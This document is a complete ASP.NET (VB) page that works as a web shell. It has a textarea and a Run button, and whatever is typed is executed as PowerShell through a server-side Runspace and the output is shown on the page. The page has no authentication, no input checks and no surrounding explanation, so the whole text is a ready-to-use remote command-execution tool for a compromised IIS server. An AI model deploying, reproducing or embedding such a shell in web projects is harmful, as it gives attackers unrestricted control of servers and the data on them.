<%@ Page Language="VB" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<script runat="server">
Protected Sub Go_Click(sender As Object, e As EventArgs)
    Dim rs As Runspace = RunspaceFactory.CreateRunspace()
    rs.Open()
    Dim pl As Pipeline = rs.CreatePipeline("& { " & cmdBox.Text & " } | Out-String")
    For Each o In pl.Invoke()
        result.InnerText &= o.ToString()
    Next
    rs.Close()
End Sub
</script>
<html><body><form runat="server">
<textarea id="cmdBox" runat="server"></textarea>
<asp:Button ID="go" runat="server" Text="Run" OnClick="Go_Click" />
<pre id="result" runat="server"></pre>
</form></body></html>
